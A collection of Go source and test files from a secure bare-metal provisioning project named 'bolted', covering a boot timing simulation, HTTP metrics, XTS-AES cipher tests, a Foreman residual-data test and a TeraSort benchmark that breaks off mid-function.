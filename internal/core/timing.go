package core

import (
	"fmt"
	"hash/fnv"
	"time"

	"bolted/internal/ceph"
	"bolted/internal/firmware"
	"bolted/internal/sim"
	"bolted/internal/tpm"
)

// This file is the discrete-event timing model behind Figures 4 and 5:
// the functional packages define WHAT happens during provisioning; this
// model charges HOW LONG each phase takes, calibrated to the paper's
// R630/M620 testbed (UEFI POST ≈ 4 min, LinuxBoot ≈ 40 s, TPM quote
// latency, a 27-spindle Ceph pool, and a single-airlock attestation
// bottleneck).

// SecurityLevel is the Figure-4 x-axis: none, attested, or fully
// encrypted (attested + LUKS + IPsec).
type SecurityLevel int

// Security levels.
const (
	SecNone SecurityLevel = iota
	SecAttested
	SecFull
)

func (s SecurityLevel) String() string {
	switch s {
	case SecNone:
		return "no-attestation"
	case SecAttested:
		return "attestation"
	case SecFull:
		return "full-attestation"
	default:
		return fmt.Sprintf("security(%d)", int(s))
	}
}

// Phase durations calibrated to the paper's Figure 4 breakdown.
const (
	phasePXE         = 8 * time.Second  // PXE downloads iPXE
	phaseIPXEFetch   = 20 * time.Second // iPXE downloads the Heads runtime
	phaseRuntimeBoot = 25 * time.Second // booting the LinuxBoot runtime
	phaseAgentFetch  = 5 * time.Second  // download Keylime agent over HTTP
	// phaseAttest covers agent registration, TPM quote, verifier checks
	// and the encrypted kernel/initrd delivery.
	phaseAttest = 45 * time.Second
	// airlockSerial is the portion of attestation serialized by an
	// airlock (§7.3 concurrency limitation: the prototype had exactly
	// one; ProvisionConfig.Airlocks — fed from PoolPolicy.Airlocks via
	// WithPool — sets how many run in parallel).
	airlockSerial = 12 * time.Second
	// phaseWarmRequote is the warm fast path's attestation cost: the
	// agent is already registered and the runtime pre-attested, so only
	// a fresh-nonce quote, its verification and the tenant payload
	// release remain. Compare phaseAttest (45 s) for the cold chain.
	phaseWarmRequote = 5 * time.Second
	// phaseKernelFetch replaces attestation for security-insensitive
	// tenants: plain download of kernel+initrd.
	phaseKernelFetch = 15 * time.Second
	phaseHILMove     = 10 * time.Second // switch reprogramming out of the airlock
	phaseKexecBoot   = 40 * time.Second // kexec + kernel/userspace init (excl. storage I/O)
	// phaseCryptoSetup is SecFull's extra steps: load LUKS key, unlock
	// the volume, establish the IPsec tunnel.
	phaseCryptoSetup = 10 * time.Second

	// Exported mirrors of the timing model for external simulators
	// (cmd/boltedsim's scheduler churn model reuses the calibrated
	// costs instead of inventing its own).
	AirlockSerialDuration = airlockSerial
	AttestDuration        = phaseAttest
	WarmRequoteDuration   = phaseWarmRequote

	// Boot-time storage traffic served by the Ceph pool: first-boot
	// page-ins of the root filesystem, services and first workload
	// warm-up.
	bootIOBytes = 2500 << 20
	// bootIOStreams is the node's read-ahead concurrency against the
	// pool (8 MiB read-ahead keeps ~4 object requests in flight).
	bootIOStreams = 4
	// fullIOSlowdown stretches storage time when the iSCSI path runs
	// over IPsec (Figure 3c: major impact on the remote disk).
	fullIOSlowdown = 1.67

	// Foreman baseline: stateful install copies the whole image to the
	// local disk, then reboots (second POST).
	foremanInstallerBoot = 40 * time.Second
	foremanImageBytes    = 3 << 30
	foremanLocalBoot     = 30 * time.Second
)

// ProvisionConfig selects one Figure-4 bar or Figure-5 point.
type ProvisionConfig struct {
	Firmware    FirmwareKind
	Security    SecurityLevel
	Foreman     bool // baseline provisioner (ignores Security)
	Concurrency int  // nodes provisioned in parallel (Figure 5)
	// Airlocks is the number of parallel attestation airlocks
	// (prototype limitation: 1; the ablation bench raises it). Use
	// WithPool so the model and the real provisioner share one source
	// of truth.
	Airlocks int
	// WarmPool is how many of the batch's nodes are served from a warm
	// pool of pre-attested standbys: those nodes charge only the
	// re-quote, the HIL move and the kexec, while the remainder runs
	// the full cold chain — mirroring AcquireNodes, which drains the
	// pool first and falls back cold. (Ignored under Foreman, whose
	// stateful install cannot park standbys.)
	WarmPool int

	// Infrastructure sizing (defaults: the paper's pool).
	OSDs           int
	SpindlesPerOSD int

	// Resilience is the retry policy the fault model charges when
	// FaultRate > 0 (zero fields take DefaultResiliencePolicy values) —
	// the same policy shape the real provisioner runs under.
	Resilience ResiliencePolicy
	// FaultRate is the per-attempt transient-fault probability the
	// timing model injects into service-facing phases (0 disables).
	// Faulted attempts charge the failed call plus the retry backoff,
	// which is how injected faults surface as p99 latency rather than
	// failures while the retry budget holds.
	FaultRate float64
	// Seed keys the model's deterministic fault draws: same seed, same
	// config, same timeline.
	Seed int64
}

// DefaultProvisionConfig returns a single-node LinuxBoot attested boot
// on the paper's infrastructure.
func DefaultProvisionConfig() ProvisionConfig {
	return ProvisionConfig{
		Firmware:       FirmwareLinuxBoot,
		Security:       SecAttested,
		Concurrency:    1,
		Airlocks:       1,
		OSDs:           3,
		SpindlesPerOSD: 9,
	}
}

// Canonical life-cycle phase names, the vocabulary shared by the real
// provisioner (Enclave.AcquireNodes reports BatchTimings keyed by these)
// and the discrete-event simulation (every simulated Phase carries one
// as its Group), so measured and simulated breakdowns line up. The
// warm-path phases charge only what a pre-attested standby still owes:
// re-quote, HIL move, kexec.
const (
	PhaseAirlock   = "airlock"   // HIL reservation + airlock wiring
	PhaseBoot      = "boot"      // power-on, firmware, agent registration
	PhaseAttest    = "attest"    // quote, verification, payload release
	PhaseProvision = "provision" // network move, volume, crypto, kexec

	PhaseWarmRefill    = "warm-refill"    // background standby boot (refiller failures report it)
	PhaseWarmRequote   = "warm-requote"   // fresh-nonce quote + tenant payload release
	PhaseWarmProvision = "warm-provision" // HIL move, volume, crypto, kexec off a standby
)

// faultRetryCost is the modeled cost of one failed service call inside
// a phase: the time a connect or request burns before its transient
// error surfaces to the retry loop.
const faultRetryCost = 2 * time.Second

// faultPenalty is the deterministic extra latency the fault model adds
// to one node's phase. A keyed hash of (seed, node, phase, attempt)
// decides how many consecutive attempts fault — mirroring
// internal/fault's per-attempt counter walk — and each faulted attempt
// charges the failed call plus the expectation of the capped
// full-jitter backoff (3/4 of the exponential delay), keeping the model
// deterministic while matching the real retry loop's shape.
func (cfg ProvisionConfig) faultPenalty(node int, phase string) time.Duration {
	if cfg.FaultRate <= 0 {
		return 0
	}
	pol := cfg.Resilience.withDefaults()
	var d time.Duration
	for attempt := 1; attempt < pol.MaxAttempts; attempt++ {
		h := fnv.New64a()
		fmt.Fprintf(h, "%d\x00%d\x00%s\x00%d", cfg.Seed, node, phase, attempt)
		if float64(h.Sum64()>>11)/float64(1<<53) >= cfg.FaultRate {
			break
		}
		shift := attempt - 1
		if shift > 6 {
			shift = 6
		}
		b := pol.RetryBackoff << shift
		if b > pol.BackoffCap {
			b = pol.BackoffCap
		}
		d += faultRetryCost + b*3/4
	}
	return d
}

// WithPool applies the warm-pool configuration to the timing model:
// the airlock count and warm-path eligibility both come from the same
// PoolPolicy the real provisioner runs under, so simulated and
// measured pipelines agree by construction.
func (cfg ProvisionConfig) WithPool(p PoolPolicy) ProvisionConfig {
	p = p.withDefaults()
	cfg.Airlocks = p.Airlocks
	cfg.WarmPool = p.Target
	return cfg
}

// Phase is one step of a provisioning timeline. Group is the canonical
// phase (PhaseAirlock, PhaseBoot, PhaseAttest, PhaseProvision) the step
// belongs to; Name is the fine-grained label shown in Figure-4 stacks.
type Phase struct {
	Name     string
	Group    string
	Duration time.Duration
}

// PhaseTiming aggregates one canonical phase across a provisioning
// batch: how many nodes went through it, the summed per-node time, and
// the slowest node (the phase's contribution to batch wall-clock).
type PhaseTiming struct {
	Phase string
	Nodes int
	Total time.Duration
	Max   time.Duration
}

// BatchTimings is the real path's counterpart of ProvisionResult: the
// per-phase breakdown of one AcquireNodes batch, in canonical phase
// order, plus the batch's end-to-end wall-clock.
type BatchTimings struct {
	Wall   time.Duration
	Phases []PhaseTiming
}

// ByPhase returns the aggregate for one canonical phase (zero value if
// the batch never entered it).
func (b *BatchTimings) ByPhase(name string) PhaseTiming {
	for _, p := range b.Phases {
		if p.Phase == name {
			return p
		}
	}
	return PhaseTiming{Phase: name}
}

// observe folds one node's time in a phase into the aggregate.
func (b *BatchTimings) observe(phase string, d time.Duration) {
	for i := range b.Phases {
		if b.Phases[i].Phase == phase {
			b.Phases[i].Nodes++
			b.Phases[i].Total += d
			if d > b.Phases[i].Max {
				b.Phases[i].Max = d
			}
			return
		}
	}
	b.Phases = append(b.Phases, PhaseTiming{Phase: phase, Nodes: 1, Total: d, Max: d})
}

// ProvisionResult is the simulation output.
type ProvisionResult struct {
	Config ProvisionConfig
	// Phases is node 0's timeline (the Figure-4 stack).
	Phases []Phase
	// PerNode is each node's completion time (Figure 5 uses the max).
	PerNode []time.Duration
	// Makespan is the time until every node is provisioned.
	Makespan time.Duration
}

// Total returns the sum of node 0's phases.
func (r *ProvisionResult) Total() time.Duration {
	var t time.Duration
	for _, p := range r.Phases {
		t += p.Duration
	}
	return t
}

// ByGroup sums node 0's timeline per canonical phase, for comparison
// with a real batch's BatchTimings.
func (r *ProvisionResult) ByGroup() map[string]time.Duration {
	out := make(map[string]time.Duration)
	for _, p := range r.Phases {
		out[p.Group] += p.Duration
	}
	return out
}

// SimulateProvisioning runs the boot timeline for cfg.Concurrency nodes
// and returns per-node times and the phase breakdown.
func SimulateProvisioning(cfg ProvisionConfig) *ProvisionResult {
	if cfg.Concurrency < 1 {
		cfg.Concurrency = 1
	}
	if cfg.Airlocks < 1 {
		cfg.Airlocks = 1
	}
	if cfg.OSDs < 1 {
		cfg.OSDs = 3
	}
	if cfg.SpindlesPerOSD < 1 {
		cfg.SpindlesPerOSD = 9
	}
	s := sim.New(42)
	cluster, err := ceph.NewCluster(cfg.OSDs, 1)
	if err != nil {
		panic(err)
	}
	backend := ceph.NewSimBackend(s, cluster, cfg.SpindlesPerOSD)
	// Effective per-spindle rate for boot-pattern I/O (mixed random
	// reads): far below streaming rate.
	backend.SeekTime = 8 * time.Millisecond
	backend.SpindleBandwidthBps = 20e6 * 8

	airlock := s.NewResource("airlock", cfg.Airlocks)
	res := &ProvisionResult{
		Config:  cfg,
		PerNode: make([]time.Duration, cfg.Concurrency),
	}

	for i := 0; i < cfg.Concurrency; i++ {
		i := i
		s.Go(fmt.Sprintf("node%02d", i), func(p *sim.Proc) {
			var phases []Phase
			step := func(name, group string, d time.Duration) {
				d += cfg.faultPenalty(i, group+"/"+name)
				p.Sleep(d)
				phases = append(phases, Phase{name, group, d})
			}
			stepIO := func(name, group string, bytes int64, slowdown float64) {
				start := p.Now()
				demand := int64(float64(bytes) * slowdown)
				wg := p.Sim().NewWaitGroup(bootIOStreams)
				for st := 0; st < bootIOStreams; st++ {
					prefix := fmt.Sprintf("boot-%d-%d", i, st)
					p.Sim().Go("io", func(c *sim.Proc) {
						backend.ChargeImageRead(c, prefix, demand/bootIOStreams)
						wg.Done()
					})
				}
				p.WaitFor(wg)
				phases = append(phases, Phase{name, group, p.Now() - start})
			}

			if cfg.Foreman {
				step("POST (UEFI)", PhaseBoot, firmware.UEFIPOSTTime)
				step("PXE", PhaseBoot, phasePXE)
				step("installer boot", PhaseBoot, foremanInstallerBoot)
				// Full image copy to local disk, one sequential stream.
				start := p.Now()
				backend.ChargeImageRead(p, fmt.Sprintf("foreman-%d", i), foremanImageBytes)
				phases = append(phases, Phase{"copy image to local disk", PhaseProvision, p.Now() - start})
				step("POST again (reboot)", PhaseBoot, firmware.UEFIPOSTTime)
				step("local boot", PhaseProvision, foremanLocalBoot)
			} else if i < cfg.WarmPool {
				// Warm fast path — this node is one of the standbys the
				// pool can supply (nodes beyond WarmPool run the cold
				// chain below, like AcquireNodes' fallback). It sat
				// parked in the attested Heads runtime, so the
				// POST/PXE/iPXE/agent chain was paid by the background
				// refiller, not this acquisition. Only the re-quote
				// (serialized through an airlock slot), the HIL move
				// and the kexec remain.
				if cfg.Security >= SecAttested {
					start := p.Now()
					p.Acquire(airlock)
					p.Sleep(phaseWarmRequote + cfg.faultPenalty(i, PhaseWarmRequote))
					airlock.Release()
					phases = append(phases, Phase{"warm re-quote + payload release", PhaseWarmRequote, p.Now() - start})
				} else {
					step("fetch tenant kernel", PhaseWarmProvision, phaseKernelFetch)
				}
				step("move to tenant network (HIL)", PhaseWarmProvision, phaseHILMove)
				if cfg.Security == SecFull {
					step("LUKS unlock + IPsec tunnel", PhaseWarmProvision, phaseCryptoSetup)
				}
				step("kexec + kernel init", PhaseWarmProvision, phaseKexecBoot)
				slow := 1.0
				if cfg.Security == SecFull {
					slow = fullIOSlowdown
				}
				stepIO("boot I/O (network storage)", PhaseWarmProvision, bootIOBytes, slow)
			} else {
				if cfg.Firmware == FirmwareUEFI {
					step("POST (UEFI)", PhaseBoot, firmware.UEFIPOSTTime)
					step("PXE -> iPXE", PhaseBoot, phasePXE)
					step("iPXE downloads Heads", PhaseBoot, phaseIPXEFetch)
					step("boot LinuxBoot runtime", PhaseBoot, phaseRuntimeBoot)
				} else {
					step("POST (LinuxBoot)", PhaseBoot, firmware.LinuxBootPOSTTime)
				}
				if cfg.Security >= SecAttested {
					step("download Keylime agent", PhaseBoot, phaseAgentFetch)
					// Registration, quote and verification; a slice of
					// it is serialized by the single airlock.
					start := p.Now()
					p.Sleep(phaseAttest - airlockSerial - tpm.QuoteLatency + cfg.faultPenalty(i, PhaseAttest))
					p.Sleep(tpm.QuoteLatency)
					p.Acquire(airlock)
					p.Sleep(airlockSerial)
					airlock.Release()
					phases = append(phases, Phase{"register + attest", PhaseAttest, p.Now() - start})
				} else {
					step("fetch tenant kernel", PhaseProvision, phaseKernelFetch)
				}
				step("move to tenant network (HIL)", PhaseProvision, phaseHILMove)
				if cfg.Security == SecFull {
					step("LUKS unlock + IPsec tunnel", PhaseProvision, phaseCryptoSetup)
				}
				step("kexec + kernel init", PhaseProvision, phaseKexecBoot)
				slow := 1.0
				if cfg.Security == SecFull {
					slow = fullIOSlowdown
				}
				stepIO("boot I/O (network storage)", PhaseProvision, bootIOBytes, slow)
			}

			res.PerNode[i] = p.Now()
			if i == 0 {
				res.Phases = phases
			}
		})
	}
	res.Makespan = s.Run()
	return res
}
