// metrics.go instruments the HTTP surfaces: per-route request latency
// and status codes on the server side, and a stream helper that keeps
// an accurate active-watcher gauge even when a client drops the
// connection mid-stream.
package remote

import (
	"net/http"
	"strconv"
	"time"

	"bolted/internal/obs"
)

// statusRecorder captures the response status for the latency metric.
// It forwards Flush (NDJSON streams flush per batch) and exposes the
// underlying writer via Unwrap, so http.NewResponseController still
// reaches the real connection's SetWriteDeadline through it.
type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (r *statusRecorder) WriteHeader(code int) {
	if r.status == 0 {
		r.status = code
	}
	r.ResponseWriter.WriteHeader(code)
}

func (r *statusRecorder) Write(b []byte) (int, error) {
	if r.status == 0 {
		r.status = http.StatusOK
	}
	return r.ResponseWriter.Write(b)
}

func (r *statusRecorder) Flush() {
	if f, ok := r.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}

func (r *statusRecorder) Unwrap() http.ResponseWriter { return r.ResponseWriter }

// instrumentMux wraps a ServeMux with per-route request accounting:
// bolted_http_request_seconds{route,code}. The route label is the mux
// pattern ("GET /operations/{id}"), never the raw URL, so cardinality
// is bounded by the API surface, not by tenant-chosen names. A nil
// registry returns the mux untouched — the uninstrumented path pays
// nothing.
func instrumentMux(reg *obs.Registry, mux *http.ServeMux) http.Handler {
	if reg == nil {
		return mux
	}
	lat := reg.HistogramVec("bolted_http_request_seconds",
		"Control-plane HTTP request duration by mux route and status code.",
		obs.DefLatencyBuckets, "route", "code")
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, route := mux.Handler(r)
		if route == "" {
			route = "unmatched"
		}
		rec := &statusRecorder{ResponseWriter: w}
		t0 := time.Now()
		mux.ServeHTTP(rec, r)
		code := rec.status
		if code == 0 {
			code = http.StatusOK
		}
		lat.With(route, strconv.Itoa(code)).ObserveSince(t0)
	})
}

// v1Metrics are the /v1 stream instruments. The zero value (no
// registry) is fully usable: nil instruments no-op.
type v1Metrics struct {
	watchers *obs.GaugeVec   // active NDJSON stream clients by route
	flushes  *obs.CounterVec // stream flushes (one visible batch each)
}

func newV1Metrics(reg *obs.Registry) v1Metrics {
	return v1Metrics{
		watchers: reg.GaugeVec("bolted_http_stream_watchers",
			"Active NDJSON stream clients by route.", "route"),
		flushes: reg.CounterVec("bolted_http_stream_flushes_total",
			"NDJSON stream flushes by route (each one pushed a batch to a client).", "route"),
	}
}

// stream registers one NDJSON watcher and returns its flush and done
// hooks. flush pushes buffered output to the client and counts it; done
// decrements the watcher gauge. Handlers defer done() immediately, so
// the gauge drains on every exit path — encode error, enclave deletion
// mid-stream, or the client dropping the connection — never leaking a
// phantom watcher.
func (m v1Metrics) stream(route string, w http.ResponseWriter) (flush, done func()) {
	flusher, _ := w.(http.Flusher)
	g := m.watchers.With(route)
	c := m.flushes.With(route)
	g.Inc()
	return func() {
		if flusher != nil {
			flusher.Flush()
			c.Inc()
		}
	}, g.Dec
}
