package xts

import (
	"bytes"
	"crypto/aes"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

func mustCipher(t testing.TB, key []byte) *Cipher {
	t.Helper()
	c, err := NewCipher(aes.NewCipher, key)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// IEEE P1619 XTS-AES-128 test vectors 1-3 (32-byte data units).
func TestIEEE1619Vectors(t *testing.T) {
	cases := []struct {
		name       string
		key1, key2 string
		sector     uint64
		ptx, ctx   string
	}{
		{
			name:   "vector1",
			key1:   "00000000000000000000000000000000",
			key2:   "00000000000000000000000000000000",
			sector: 0,
			ptx:    "0000000000000000000000000000000000000000000000000000000000000000",
			ctx:    "917cf69ebd68b2ec9b9fe9a3eadda692cd43d2f59598ed858c02c2652fbf922e",
		},
		{
			name:   "vector2",
			key1:   "11111111111111111111111111111111",
			key2:   "22222222222222222222222222222222",
			sector: 0x3333333333,
			ptx:    "4444444444444444444444444444444444444444444444444444444444444444",
			ctx:    "c454185e6a16936e39334038acef838bfb186fff7480adc4289382ecd6d394f0",
		},
		{
			name:   "vector3",
			key1:   "fffefdfcfbfaf9f8f7f6f5f4f3f2f1f0",
			key2:   "22222222222222222222222222222222",
			sector: 0x3333333333,
			ptx:    "4444444444444444444444444444444444444444444444444444444444444444",
			ctx:    "af85336b597afc1a900b2eb21ec949d292df4c047e0b21532186a5971a227a89",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			k1, _ := hex.DecodeString(tc.key1)
			k2, _ := hex.DecodeString(tc.key2)
			pt, _ := hex.DecodeString(tc.ptx)
			want, _ := hex.DecodeString(tc.ctx)
			c := mustCipher(t, append(k1, k2...))
			got := make([]byte, len(pt))
			if err := c.EncryptSector(got, pt, tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("encrypt = %x\nwant      %x", got, want)
			}
			back := make([]byte, len(pt))
			if err := c.DecryptSector(back, got, tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(back, pt) {
				t.Fatalf("decrypt round-trip = %x, want %x", back, pt)
			}
		})
	}
}

func TestKeyValidation(t *testing.T) {
	for _, n := range []int{0, 16, 31, 33, 48, 65} {
		if _, err := NewCipher(aes.NewCipher, make([]byte, n)); err == nil {
			t.Errorf("key size %d accepted, want error", n)
		}
	}
	for _, n := range []int{32, 64} {
		if _, err := NewCipher(aes.NewCipher, make([]byte, n)); err != nil {
			t.Errorf("key size %d rejected: %v", n, err)
		}
	}
}

func TestLengthValidation(t *testing.T) {
	c := mustCipher(t, make([]byte, 64))
	for _, n := range []int{0, 1, 15, 17, 511} {
		if err := c.EncryptSector(make([]byte, n), make([]byte, n), 0); err == nil {
			t.Errorf("sector length %d accepted, want error", n)
		}
	}
	if err := c.EncryptSector(make([]byte, 16), make([]byte, 32), 0); err == nil {
		t.Error("mismatched dst/src lengths accepted")
	}
}

func TestInPlace(t *testing.T) {
	c := mustCipher(t, make([]byte, 64))
	buf := make([]byte, 512)
	for i := range buf {
		buf[i] = byte(i)
	}
	orig := append([]byte(nil), buf...)
	if err := c.EncryptSector(buf, buf, 7); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(buf, orig) {
		t.Fatal("in-place encrypt left plaintext unchanged")
	}
	if err := c.DecryptSector(buf, buf, 7); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf, orig) {
		t.Fatal("in-place round-trip mismatch")
	}
}

// Property: round-trip for random keys, sectors, and sizes.
func TestQuickRoundTrip(t *testing.T) {
	f := func(key [64]byte, sector uint64, seed int64) bool {
		c, err := NewCipher(aes.NewCipher, key[:])
		if err != nil {
			return false
		}
		rng := rand.New(rand.NewSource(seed))
		n := (1 + rng.Intn(64)) * 16
		pt := make([]byte, n)
		rng.Read(pt)
		ct := make([]byte, n)
		if err := c.EncryptSector(ct, pt, sector); err != nil {
			return false
		}
		back := make([]byte, n)
		if err := c.DecryptSector(back, ct, sector); err != nil {
			return false
		}
		return bytes.Equal(back, pt) && !bytes.Equal(ct, pt)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// Property: the same plaintext at different sector numbers encrypts to
// different ciphertext (tweak actually varies with position).
func TestQuickSectorTweakVaries(t *testing.T) {
	c := mustCipher(t, bytes.Repeat([]byte{9}, 64))
	f := func(sa, sb uint64, block [16]byte) bool {
		if sa == sb {
			return true
		}
		ca, cb := make([]byte, 16), make([]byte, 16)
		if err := c.EncryptSector(ca, block[:], sa); err != nil {
			return false
		}
		if err := c.EncryptSector(cb, block[:], sb); err != nil {
			return false
		}
		return !bytes.Equal(ca, cb)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: equal blocks within one sector encrypt differently
// (inter-block tweak progression).
func TestIntraSectorBlocksDiffer(t *testing.T) {
	c := mustCipher(t, bytes.Repeat([]byte{5}, 64))
	pt := bytes.Repeat([]byte{0xAB}, 512)
	ct := make([]byte, 512)
	if err := c.EncryptSector(ct, pt, 3); err != nil {
		t.Fatal(err)
	}
	for i := 16; i < 512; i += 16 {
		if bytes.Equal(ct[:16], ct[i:i+16]) {
			t.Fatalf("blocks 0 and %d encrypt identically (ECB-like leak)", i/16)
		}
	}
}

func BenchmarkEncryptSector4K(b *testing.B) {
	c := mustCipher(b, make([]byte, 64))
	buf := make([]byte, 4096)
	b.SetBytes(4096)
	for i := 0; i < b.N; i++ {
		_ = c.EncryptSector(buf, buf, uint64(i))
	}
}
