package foreman

import (
	"bytes"
	"testing"

	"bolted/internal/blockdev"
)

func TestInstallCopiesWholeImage(t *testing.T) {
	s := New()
	local, _ := blockdev.NewRAMDisk(2 << 20)
	if err := s.RegisterNode("n1", local); err != nil {
		t.Fatal(err)
	}
	if err := s.RegisterNode("n1", local); err == nil {
		t.Fatal("double registration accepted")
	}
	image, _ := blockdev.NewRAMDisk(1 << 20)
	content := bytes.Repeat([]byte{0xCD}, 1<<20)
	image.WriteSectors(content, 0)

	res, err := s.Install("n1", "centos7", image)
	if err != nil {
		t.Fatal(err)
	}
	// The whole image moved — not a fraction.
	if res.BytesCopied != 1<<20 {
		t.Fatalf("copied %d bytes, want full image", res.BytesCopied)
	}
	if res.RebootsRequired != 2 {
		t.Fatalf("reboots = %d, want 2 (installer + installed OS)", res.RebootsRequired)
	}
	got := make([]byte, 1<<20)
	local.ReadSectors(got, 0)
	if !bytes.Equal(got, content) {
		t.Fatal("installed disk differs from image")
	}
	if s.Installed("n1") != "centos7" {
		t.Fatal("install not recorded")
	}
}

func TestInstallErrors(t *testing.T) {
	s := New()
	small, _ := blockdev.NewRAMDisk(1 << 20)
	s.RegisterNode("n1", small)
	big, _ := blockdev.NewRAMDisk(2 << 20)
	if _, err := s.Install("ghost", "img", big); err == nil {
		t.Fatal("install to unknown node accepted")
	}
	if _, err := s.Install("n1", "img", big); err == nil {
		t.Fatal("image larger than disk accepted")
	}
}

func TestReleaseLeavesStateBehind(t *testing.T) {
	// The trust gap: without an explicit scrub, the next tenant can
	// read the previous tenant's disk.
	s := New()
	local, _ := blockdev.NewRAMDisk(1 << 20)
	s.RegisterNode("n1", local)
	image, _ := blockdev.NewRAMDisk(1 << 20)
	secret := bytes.Repeat([]byte("TENANT-A-SECRET."), 32)[:blockdev.SectorSize]
	image.WriteSectors(secret, 9)
	s.Install("n1", "tenant-a-img", image)
	if err := s.Release("n1"); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, blockdev.SectorSize)
	local.ReadSectors(got, 9)
	if !bytes.Equal(got, secret) {
		t.Fatal("model unexpectedly scrubbed on release")
	}
	// Only an explicit provider scrub removes it.
	if err := s.Scrub("n1"); err != nil {
		t.Fatal(err)
	}
	local.ReadSectors(got, 9)
	if !bytes.Equal(got, make([]byte, blockdev.SectorSize)) {
		t.Fatal("scrub incomplete")
	}
	if err := s.Scrub("ghost"); err == nil {
		t.Fatal("scrub of unknown node accepted")
	}
	if err := s.Release("ghost"); err == nil {
		t.Fatal("release of unknown node accepted")
	}
}

func TestScrubEstimateIsHours(t *testing.T) {
	// Footnote 1: scrubbing modern disks takes hours. A 4 TB drive at
	// 180 MB/s sequential writes:
	secs := ScrubEstimate(4<<40, 180e6)
	hours := secs / 3600
	if hours < 3 || hours > 12 {
		t.Fatalf("scrub estimate = %.1f hours, expected several", hours)
	}
}
