package npb

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math/rand"
	"sort"
)

// TeraSort — a real miniature of the paper's Spark TeraSort experiment:
// 100-byte records with 10-byte keys are range-partitioned by sampled
// splitters, shuffled all-to-all, and locally sorted. The shuffle is
// the bulk-communication phase that makes TeraSort IPsec-sensitive in
// Figure 7, and with a secure World every shuffled byte really is
// sealed and opened.

// Record layout (classic TeraGen).
const (
	TeraKeySize    = 10
	TeraRecordSize = 100
)

// TeraSortConfig sizes a run.
type TeraSortConfig struct {
	RecordsPerRank int
	SamplesPerRank int
	Seed           int64
}

// DefaultTeraSortConfig returns a small but non-trivial run.
func DefaultTeraSortConfig() TeraSortConfig {
	return TeraSortConfig{RecordsPerRank: 5000, SamplesPerRank: 64, Seed: 42}
}

// TeraSortResult is the verified output.
type TeraSortResult struct {
	TotalRecords   int64
	InputChecksum  [32]byte
	OutputChecksum [32]byte
	GloballySorted bool
	Balanced       bool // no rank ended up with > 4x the average
}

// teraGen produces deterministic random records for a rank.
func teraGen(rank, n int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed + int64(rank)*7919))
	out := make([]byte, n*TeraRecordSize)
	rng.Read(out)
	return out
}

// recordKey returns the key slice of record i in a packed buffer.
func recordKey(buf []byte, i int) []byte {
	return buf[i*TeraRecordSize : i*TeraRecordSize+TeraKeySize]
}

// checksumRecords computes an order-independent checksum: XOR of the
// SHA-256 of every record. Sorting must preserve it exactly.
func checksumRecords(buf []byte) [32]byte {
	var acc [32]byte
	for i := 0; i+TeraRecordSize <= len(buf); i += TeraRecordSize {
		h := sha256.Sum256(buf[i : i+TeraRecordSize])
		for j := range acc {
			acc[j] ^= h[j]
		}
	}
	return acc
}

// RunTeraSort executes the distributed sort on the world.
func RunTeraSort(w *World, cfg TeraSortConfig) (*TeraSortResult, error) {
	if cfg.RecordsPerRank < 1 || cfg.SamplesPerRank < 1 {
		return nil, fmt.Errorf("npb: terasort needs records and samples")
	}
	res := &TeraSortResult{}
	p := w.Size()

	err := w.Run(func(c *Comm) error {
		input := teraGen(c.Rank(), cfg.RecordsPerRank, cfg.Seed)
		inSum := checksumRecords(input)

		// Phase 1: sample keys and agree on splitters.
		rng := rand.New(rand.NewSource(cfg.Seed ^ int64(c.Rank())))
		samples := make([]float64, cfg.SamplesPerRank)
		for i := range samples {
			rec := rng.Intn(cfg.RecordsPerRank)
			samples[i] = keyToFloat(recordKey(input, rec))
		}
		allSamples, err := c.AllGatherF64s(samples)
		if err != nil {
			return err
		}
		sort.Float64s(allSamples)
		splitters := make([]float64, p-1)
		for i := range splitters {
			splitters[i] = allSamples[(i+1)*len(allSamples)/p]
		}

		// Phase 2: partition records by destination rank.
		parts := make([][]byte, p)
		for i := 0; i < cfg.RecordsPerRank; i++ {
			k := keyToFloat(recordKey(input, i))
			dst := sort.SearchFloat64s(splitters, k)
			parts[dst] = append(parts[dst], input[i*TeraRecordSize:(i+1)*TeraRecordSize]...)
		}

		// Phase 3: the shuffle — bulk all-to-all.
		got, err := c.AllToAll(parts)
		if err != nil {
			return err
		}
		var local []byte
		for _, g := range got {
			local = append(local, g...)
		}

		// Phase 4: local sort.
		n := len(local) / TeraRecordSize
		idx := make([]int, n)
		for i := range idx {
			idx[i] = i
		}
		sort.Slice(idx, func(a, b int) bool {
			return bytes.Compare(recordKey(local, idx[a]), recordKey(local, idx[b])) < 0
		})
		sorted := make([]byte, len(local))
		for out, in := range idx {
			copy(sorted[out*TeraRecordSize:], local[in*TeraRecordSize:(in+1)*TeraRecordSize])
		}

		// Phase 5: verification metadata. Boundary keys establish the
		// global order; checksums establish no record was lost or
		// altered; counts establish balance.
		var lo, hi float64
		if n > 0 {
			lo = keyToFloat(recordKey(sorted, 0))
			hi = keyToFloat(recordKey(sorted, n-1))
		}
		outSum := checksumRecords(sorted)
		bounds, err := c.AllGatherF64s([]float64{lo, hi, float64(n)})
		if err != nil {
			return err
		}
		sumVec := make([]float64, 64)
		for i, b := range inSum {
			sumVec[i] = float64(b)
		}
		for i, b := range outSum {
			sumVec[32+i] = float64(b)
		}
		// XOR across ranks is not a sum; gather raw checksums instead.
		allIn, err := c.AllGatherF64s(sumVec[:32])
		if err != nil {
			return err
		}
		allOut, err := c.AllGatherF64s(sumVec[32:])
		if err != nil {
			return err
		}

		if c.Rank() == 0 {
			var inAcc, outAcc [32]byte
			total := int64(0)
			sortedGlobally := true
